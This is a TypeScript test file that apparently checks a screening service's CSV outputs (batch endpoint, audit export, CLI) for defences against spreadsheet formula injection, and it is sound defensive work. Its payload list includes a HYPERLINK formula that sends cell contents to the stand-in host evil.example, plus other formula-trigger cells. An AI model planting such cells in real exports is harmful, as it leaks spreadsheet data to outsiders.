import fs from 'node:fs';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runScreen, screenOptions } from '../../src/cli-screen.js';
import { buildTestApp, tempDir } from '../helpers/app.js';

// Each kind of cell a spreadsheet would run, as the name column of a customer file could carry it.
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd', '-1+cmd', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
const upload = `ref,name\n${FORMULAS.map((f, i) => `r${i},${quoted(f)}`).join('\n')}\n`;
const neutralised = FORMULAS.map((f) => `'${f}`);

const work = tempDir();
let app: FastifyInstance;
beforeAll(async () => {
  app = await buildTestApp({ DATABASE_PATH: path.join(work.dir, 'csv.db') });
});
afterAll(async () => {
  await app.close();
  work.cleanup();
});

const column = (csv: string, name: string) => (parse(csv, { columns: true }) as Record<string, string>[]).map((row) => row[name]);

describe('issue 17: CSV formula injection', () => {
  it('the batch CSV answer prefixes every cell a spreadsheet would run with a quote', async () => {
    const res = await app.inject({ method: 'POST', url: '/v1/screen/batch', headers: { 'content-type': 'text/csv' }, payload: upload });
    expect(res.statusCode).toBe(200);
    expect(column(res.body, 'name')).toEqual(neutralised);
    expect(column(res.body, 'ref')).toEqual(FORMULAS.map((_, i) => `r${i}`));
  });

  it('the audit export as CSV prefixes a recorded reference a spreadsheet would run', async () => {
    await app.inject({ method: 'POST', url: '/v1/screen/batch', payload: { queries: FORMULAS.map((ref) => ({ ref, name: 'Jane Roe' })) } });
    const res = await app.inject({ method: 'GET', url: '/v1/screenings/export?format=csv' });
    // A reference is recorded trimmed, so the tab and the carriage return are gone and the `=` after them leads.
    expect(column(res.body, 'ref').slice(-FORMULAS.length)).toEqual(FORMULAS.map((f) => `'${f.trim()}`));
  });

  it('npm run screen prefixes every cell a spreadsheet would run with a quote', async () => {
    const input = path.join(work.dir, 'customers.csv');
    fs.writeFileSync(input, upload);
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    expect(await runScreen(screenOptions([input]), app.catalog.db, out)).toBe(0);
    expect(column(Buffer.concat(chunks).toString(), 'name')).toEqual(neutralised);
  });
});
